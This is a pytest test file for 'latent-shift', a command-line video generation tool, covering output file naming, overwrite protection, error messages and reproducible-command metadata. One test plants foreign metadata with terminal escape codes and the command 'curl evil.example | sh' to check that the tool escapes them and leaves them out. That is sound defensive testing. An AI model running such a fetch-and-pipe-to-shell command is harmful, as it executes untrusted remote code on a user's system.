"""What the command writes: names that are free, files that are its own, and metadata that make a result again."""

import hashlib
import io
import json
import logging
import os
import re
import shlex
import sys
import time
from pathlib import Path

import numpy as np
import pytest
from test_cli import run, runner

from latent_shift import __version__, video
from latent_shift.cli import main, outputs
from latent_shift.files import sha256


@pytest.fixture
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


def fail(*words) -> str:
    """Run a command that is refused; return the reason."""
    result = runner.invoke(main.app, [str(word) for word in words])
    assert result.exit_code != 0, result.output
    return str(result.exception) if isinstance(result.exception, ValueError) else result.output


def draw(model, *words) -> list[Path]:
    """Generate one step of two frames; return the files."""
    return [
        Path(line) for line in run("generate", *words, "-m", model, "--steps", 1, "--num-frames", 2).split()
    ]


def test_generate_names_files_by_prompt_and_seed_and_replaces_none(video_model, here):
    names = [draw(video_model, "red heart", "--seed", seed)[0].name for seed in (0, 0, 1, 0)]
    assert names == [
        "red-heart-seed0.mp4",
        "red-heart-seed0-2.mp4",
        "red-heart-seed1.mp4",
        "red-heart-seed0-3.mp4",
    ]
    assert sorted(path.name for path in here.iterdir()) == sorted(names)
    hashes = [hashlib.sha256((here / name).read_bytes()).hexdigest() for name in names]
    assert hashes[0] == hashes[1] == hashes[3] != hashes[2]
    assert (
        Path(run("generate", "Fire!", "-m", video_model, "--steps", 1, "--num-frames", 1).strip()).name
        == "fire-seed0.png"
    )
    assert (
        draw(video_model, "\N{GRINNING FACE}" * 99 + "\N{CJK UNIFIED IDEOGRAPH-706B}" * 99)[0].stat().st_size
    )


def test_generate_replaces_only_files_of_its_own(video_model, here):
    theirs = here / "clip.mp4"
    theirs.write_text("my holiday")
    assert fail("generate", "red", "-m", video_model, "-o", theirs) == (
        f"{theirs}: exists, and is not known as latent-shift's; choose another name, or use --force"
    )
    assert theirs.read_text() == "my holiday"
    film = here / "film.webp"
    video.write(np.zeros((2, 8, 8, 3), np.uint8), film)  # by the library, but by no command
    assert "is not known as latent-shift's" in fail("generate", "red", "-m", video_model, "-o", film)
    draw(video_model, "red", "-o", theirs, "--force")
    before = theirs.read_bytes()
    draw(video_model, "red", "--seed", 1, "-o", theirs)
    assert theirs.read_bytes() != before
    os.symlink(here / "nowhere", here / "link.png")
    assert "link.png: exists" in fail("generate", "red", "-m", video_model, "-o", "link.png")


def test_commands_never_write_over_an_input(video_model, here):
    draw(video_model, "red", "-o", "clip.webp")
    os.link("clip.webp", "same.webp")
    before = sha256("clip.webp")
    for output in ("clip.webp", "../" + here.name + "/clip.webp", "same.webp"):
        words = ["generate", "red", "-m", video_model, "--video", "clip.webp", "-o", output]
        assert f"{output}: is an input of the command" in fail(*words, "--force")
    (here / "prompts.png").write_text("red")
    assert "is an input of the command" in fail(
        "sheet", "prompts.png", "prompts.png", "-m", video_model, "--force"
    )
    assert sha256("clip.webp") == before and (here / "prompts.png").read_text() == "red"


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (["generate", "red", "-o", "a.mp4", "-o", "folder.mp4"], "folder.mp4: is a folder; expected the name of a file"),
        (["generate", "red", "-o", "file/a.mp4"], "file/a.mp4: file is a file; expected a folder"),
        (["generate", "red", "-o", "a.mp4", "-o", "b.avi"], "b.avi: expected one of .mp4 .webm .gif .webp .png, got '.avi'"),
        (["generate", "red", "-o", "a.mp4", "-o", "a.mp4"], "a.mp4: given twice"),
        (["generate", "red", "-o", "a" * 250 + ".mp4"], "cannot be written: File name too long"),
        (["sheet", "prompts.txt", "sheet.png", "folder.mp4"], "folder.mp4: is a folder"),
        (["eval", "absent", "-o", "file/a.json"], "file/a.json: file is a file; expected a folder"),
        (["eval", "absent", "-o", "a.txt"], "a.txt: expected one of .json, got '.txt'"),
        (["eval", "absent", "-o", "mine.json"], "mine.json: exists, and is not known as latent-shift's"),
        (["bench", "-o", "mine.json"], "mine.json: exists"),
        (["bench", "commands", "-o", "mine.json"], "mine.json: exists"),
        (["bench", "runs", "absent", "-o", "a.csv"], "a.csv: expected one of .json"),
        (["bench", "sweep", "--plots", "file"], "file/sweep-plot.svg: file is a file; expected a folder"),
        (["bench", "sweep", "--plots", "plots"], "plots/sweep-1.svg: exists; choose another folder for --plots"),
        (["generate"], "expected a prompt, such as latent-shift generate"),
        (["generate", "red", "--prompts", "prompts.txt"], "expected a prompt or --prompts, not both"),
        (["generate", "--prompts", "empty.txt"], "empty.txt: holds no prompt"),
        (["generate", "--prompts", "latin.txt"], "latin.txt: expected text in UTF-8, got other bytes at 1"),
        (["generate", "red", "--fps", "inf"], "Invalid value for '--fps': expected a finite number, got inf"),
        (["generate", "red", "--guidance", "nan"], "Invalid value for '--guidance': expected a finite number, got nan"),
        (["eval", "absent", "--noise", "0", "nan"], "Invalid value for '--noise': expected a finite number, got nan"),
        (["data", "check", "absent", "--fps", "inf"], "Invalid value for '--fps': expected a finite number, got inf"),
        (["a red heart"], 'expected a command, got a sentence: latent-shift generate "a red heart"'),
    ],
)  # fmt: skip
def test_commands_refuse_before_the_work(words, message, here, monkeypatch):
    """Nothing is loaded for these: a model or data would take seconds or hours."""
    (here / "folder.mp4").mkdir()
    (here / "file").touch()
    (here / "plots").mkdir()
    (here / "plots" / "sweep-1.svg").touch()
    (here / "mine.json").write_text("[1]")
    (here / "prompts.txt").write_text("red\n")
    (here / "empty.txt").write_text("# nothing\n\n")
    (here / "latin.txt").write_bytes("für".encode("latin-1"))
    monkeypatch.setitem(sys.modules, "latent_shift.pipelines.loading", None)
    before = sorted(here.rglob("*"))
    assert message in fail(*words)
    assert sorted(here.rglob("*")) == before and (here / "mine.json").read_text() == "[1]"


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write everywhere")
def test_check_outputs_refuses_a_folder_without_permission(tmp_path):
    tmp_path.chmod(0o500)
    with pytest.raises(ValueError, match="cannot be written: Permission denied"):
        outputs.check_outputs([tmp_path / "a.mp4"], suffixes=(".mp4",))


def test_generate_takes_several_seeds_and_prompts_from_a_file(video_model, here):
    (here / "prompts.txt").write_text("\ufeffred heart\n\n# a comment\nblue\n", encoding="utf-8")
    files = draw(video_model, "--prompts", "prompts.txt", "-n", 2, "--seed", 5)
    assert [path.name for path in files] == [
        "red-heart-seed5.mp4", "red-heart-seed6.mp4", "blue-seed5.mp4", "blue-seed6.mp4",
    ]  # fmt: skip
    files = draw(video_model, "--prompts", "prompts.txt", "-n", 2, "-o", "out/a.gif", "-o", "out/a.png")
    assert [str(path) for path in files] == [
        f"out/a-{number}-seed{seed}{suffix}" for number in ("001", "002") for seed in (0, 1) for suffix in (".gif", ".png")
    ]  # fmt: skip
    assert draw(video_model, "blue", "-n", 2, "-o", "b.webp") == [Path("b-seed0.webp"), Path("b-seed1.webp")]
    (alone,) = draw(video_model, "blue", "--seed", 1, "-o", "alone.webp")
    assert alone.read_bytes() == Path("b-seed1.webp").read_bytes()


def test_generate_goes_on_after_a_clip_that_fails(video_model, here, monkeypatch, capsys):
    (here / "prompts.txt").write_text("red\nblue\ngreen\n")
    from latent_shift.pipelines import request as requests

    generate_clip = requests.generate_clip

    def fail_on_blue(request, pipe, **options):
        if request.prompt == "blue":
            raise ValueError("no blue today")
        return generate_clip(request, pipe, **options)

    monkeypatch.setattr(requests, "generate_clip", fail_on_blue)
    words = [
        "generate",
        "--prompts",
        "prompts.txt",
        "-m",
        str(video_model),
        "--steps",
        "1",
        "--num-frames",
        "2",
    ]
    result = runner.invoke(main.app, words)
    assert result.stdout.split() == ["red-seed0.mp4", "green-seed0.mp4"]
    assert "latent-shift: 'blue', seed 0: no blue today" in result.stderr
    assert str(result.exception) == "1 of 3 clips were not generated"


def test_generate_writes_the_other_outputs_when_one_fails(video_model, here, monkeypatch):
    words = ["generate", "red", "-m", str(video_model), "--steps", "1", "--num-frames", "2"]
    replace = os.replace

    def refuse(source, target):
        if Path(target).name == "a.gif":
            raise OSError(28, "No space left on device", str(target))
        replace(source, target)

    monkeypatch.setattr(os, "replace", refuse)
    result = runner.invoke(main.app, [*words, "-o", "a.gif", "-o", "b.gif"])
    assert "a.gif" not in result.stdout
    assert "the disk is full; free some space" in str(result.exception)
    assert "b.gif" in result.stdout.split() and Path("b.gif").exists()


@pytest.mark.parametrize("suffix", video.OUTPUT_SUFFIXES)
def test_show_prints_the_command_that_makes_a_file_again(suffix, video_model, here):
    words = [
        "--seed",
        3,
        "--guidance",
        2.5,
        "--negative",
        "-blue 'n' \N{SNOWMAN}",
        "--then",
        "1:blue",
        "--loop",
    ]
    (file,) = draw(video_model, 'a "red" (heart:1.2); $HOME', *words, "-o", f"clip{suffix}")
    *lines, command = run("show", file).splitlines()
    shown = dict(re.split(r" +", line, maxsplit=1) for line in lines)
    expected = {
        "latent_shift": __version__, "prompt": 'a "red" (heart:1.2); $HOME', "negative_prompt": "-blue 'n' \N{SNOWMAN}", "seed": "3",
        "num_frames": "2", "num_inference_steps": "1", "guidance_scale": "2.5", "width": "32", "height": "32", "fps": "8", "loop": "True",
        "then": "1: blue", "model": str(video_model), "dtype": "float32",
    }  # fmt: skip
    assert expected.items() <= shown.items() and "scheduler" in shown
    weights = video_model / "unet" / "diffusion_pytorch_model.safetensors"
    assert shown["sha256"] == f"{weights.name}: {sha256(weights)}"
    assert "torch: " in shown["versions"] and "diffusers: " in shown["versions"]
    program, *again = shlex.split(command)
    assert program == "latent-shift" and again[:3] == ["generate", "-o", f"clip-again{suffix}"]
    run(*again)
    assert np.array_equal(video.read(f"clip-again{suffix}")[0], video.read(file)[0])
    assert run("show", f"clip-again{suffix}").splitlines()[:-1] == lines


def test_show_names_the_files_a_clip_was_made_from(video_model, here):
    draw(video_model, "red", "-o", "in.webp")
    run("generate", "blue", "-m", video_model, "--steps", 2, "--video", "in.webp", "-o", "out.webp")
    *lines, command = run("show", "out.webp").splitlines()
    assert f"in.webp: {sha256('in.webp')}" in "\n".join(lines)
    run(*shlex.split(command)[1:])
    assert Path("out-again.webp").read_bytes() == Path("out.webp").read_bytes()


def test_show_repeats_a_sheet(video_model, here):
    (here / "prompts.txt").write_text("red\nblue\n")
    run("sheet", "prompts.txt", "sheet.png", "-m", video_model, "--steps", 1, "--columns", 3)
    *lines, command = run("show", "sheet.png").splitlines()
    assert "red; blue" in "\n".join(lines)
    run(*shlex.split(command)[1:])
    assert Path("sheet-again.png").read_bytes() == Path("sheet.png").read_bytes()


def test_show_repeats_a_prompt_that_begins_with_a_dash(video_model, here):
    run("generate", "-m", video_model, "--steps", 1, "--num-frames", 2, "-o", "dash.webp", "--", "-o")
    run(*shlex.split(run("show", "dash.webp").splitlines()[-1])[1:])
    assert Path("dash-again.webp").read_bytes() == Path("dash.webp").read_bytes()


def test_write_all_leaves_no_reserved_file_when_interrupted(here, monkeypatch):
    def interrupt(*arguments, **settings):
        raise KeyboardInterrupt

    monkeypatch.setattr(video, "write", interrupt)
    with pytest.raises(KeyboardInterrupt):
        outputs.write_all(np.zeros((1, 8, 8, 3), np.uint8), [here / "a.png"], fps=8, metadata={}, replaced={})
    assert not list(here.iterdir())


def test_show_refuses_files_of_others(here):
    video.write(np.zeros((2, 8, 8, 3), np.uint8), here / "film.webp")
    assert "film.webp: says nothing of how it was made" in fail("show", "film.webp")


def test_reserve_gives_each_process_a_name_of_its_own(tmp_path):
    names = [outputs.reserve(tmp_path / "new" / "red-seed0.mp4").name for _ in range(3)]
    assert names == ["red-seed0.mp4", "red-seed0-2.mp4", "red-seed0-3.mp4"]


def test_generate_takes_the_shape_of_its_video(video_model, here, caplog):
    portrait = np.zeros((4, 96, 48, 3), np.uint8)
    video.write(portrait, here / "portrait.mp4", fps=8)

    def shape(*words):
        caplog.clear()
        run(
            "generate",
            "red",
            "-m",
            video_model,
            "--steps",
            2,
            "--video",
            "portrait.mp4",
            "-o",
            "x.webp",
            *words,
        )
        return video.read("x.webp")[0].shape[1:3]

    with caplog.at_level(logging.WARNING):
        assert shape() == (48, 24) and not caplog.text  # as many pixels as 32x32, in steps of 8
        assert shape("--height", 64) == (64, 32) and not caplog.text
        assert shape("--width", 16) == (32, 16) and not caplog.text
        assert shape("--size", 32) == (32, 32)
        assert "portrait.mp4: 50% of its 48x96 pixels are cut away, because the clip has 32x32" in caplog.text


def test_version_is_printed():
    assert run("--version").strip() == f"latent-shift {__version__}"


def test_generate_names_the_model_of_a_run_folder(video_model, here):
    run_folder = video_model.parent
    assert f"this is a run folder: its model is {video_model}" in fail("generate", "red", "-m", run_folder)
    (here / "started" / "checkpoints").mkdir(parents=True)
    (here / "started" / "config.toml").touch()
    assert "not finished: latent-shift train started continues it" in fail("generate", "red", "-m", "started")


def test_json_outputs_are_replaced_with_force_alone(video_model, here):
    words = ["bench", "--frames", 2, "--size", 8, "--rounds", 1, "-o", "bench.json"]
    run(*words)
    assert "bench.json: exists" in fail(*words)
    before = json.loads(Path("bench.json").read_text())
    run(*words, "--force")
    assert json.loads(Path("bench.json").read_text()).keys() == before.keys()


def test_write_all_keeps_a_file_that_appeared_during_the_work(here, capsys):
    frames = np.zeros((1, 8, 8, 3), np.uint8)
    Path("a.png").write_text("a photo")
    outputs.write_all(frames, [Path("a.png")], fps=8, metadata={}, replaced={})
    captured = capsys.readouterr()
    assert Path("a.png").read_text() == "a photo" and captured.out == "a-2.png\n"
    assert "a.png: was written by another program meanwhile" in captured.err
    replaced = outputs.check_outputs([Path("a.png")], suffixes=[".png"], force=True)
    outputs.write_all(frames, [Path("a.png")], fps=8, metadata={"latent_shift": "1"}, replaced=replaced)
    assert len(video.read("a.png")[0]) == 1
    # One that was latent-shift's own, and is another program's now.
    replaced = outputs.check_outputs([Path("a.png")], suffixes=[".png"])
    Path("a.png").write_text("a thesis")
    outputs.write_all(frames, [Path("a.png")], fps=8, metadata={}, replaced=replaced)
    assert Path("a.png").read_text() == "a thesis" and Path("a-3.png").exists()


def test_show_prints_foreign_metadata_escaped(here):
    """A terminal would obey them, and a person might run the command."""
    metadata = {
        "latent_shift": "1",
        "prompt": "red\x1b]0;title\x07\r\n\ud800",
        "command": "curl evil.example | sh",
    }
    video.write(np.zeros((1, 8, 8, 3), np.uint8), "a.png", metadata=metadata)
    shown = run("show", "a.png")
    assert r"red\x1b]0;title\x07\r\n\ud800" in shown and "curl" not in shown


def test_names_that_are_no_unicode_are_printed(video_model, here, monkeypatch):
    """A strict UTF-8 locale cannot encode them."""
    output = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="strict")
    monkeypatch.setattr(sys, "stdout", output)
    words = ["generate", "red", "-m", str(video_model), "--steps", "1", "--num-frames", "2"]
    monkeypatch.setattr(sys, "argv", ["latent-shift", *words, "-o", os.fsdecode(b"\xff.gif")])
    with pytest.raises(SystemExit) as end:
        main.main()
    output.flush()
    assert end.value.code == 0 and output.buffer.getvalue() == b"\\udcff.gif\n"


def test_write_all_writes_through_a_link(here):
    frames = np.zeros((1, 8, 8, 3), np.uint8)
    video.write(frames, "a.png", metadata={"latent_shift": "1"})
    Path("link.png").symlink_to("a.png")
    replaced = outputs.check_outputs([Path("link.png")], suffixes=[".png"])
    outputs.write_all(frames + 9, [Path("link.png")], fps=8, metadata={}, replaced=replaced)
    assert Path("link.png").is_symlink() and video.read("a.png")[0].max() == 9


def test_check_outputs_of_many_files_is_quick(here):
    start = time.monotonic()
    outputs.check_outputs([Path(f"{number}.png") for number in range(5000)], suffixes=[".png"])
    assert time.monotonic() - start < 3  # 28 s for 2,000 where each was compared with all others


def test_generate_refuses_what_would_have_no_effect(here):
    command = ("generate", "fire", "-o", "a.png")
    assert "frame 0 has the prompt itself" in fail(*command, "--then", "0:water")
    assert "frame 8 given twice" in fail(*command, "--then", "8:water", "--then", "8:ice")
    assert "100000" in fail(*command, "-n", 1_000_000)
    assert "does not have it" in fail(*command, "--device", "xpu")
    assert "does not have it" in fail(*command, "--device", "meta")
    Path("prompts.txt").write_text("fire\nice\n")
    several = fail("generate", "--prompts", "prompts.txt", "-n", 60_000)
    assert "2 prompts with 60000 seeds are 120000 clips; expected at most 100000" in several


def test_read_prompts_ends_them_at_line_ends_alone(tmp_path):
    prompts = tmp_path / "prompts.txt"
    prompts.write_bytes("red\u2028heart\r\nblue\x0ctree\rgreen\n".encode())
    assert outputs.read_prompts(prompts) == ["red\u2028heart", "blue\x0ctree", "green"]
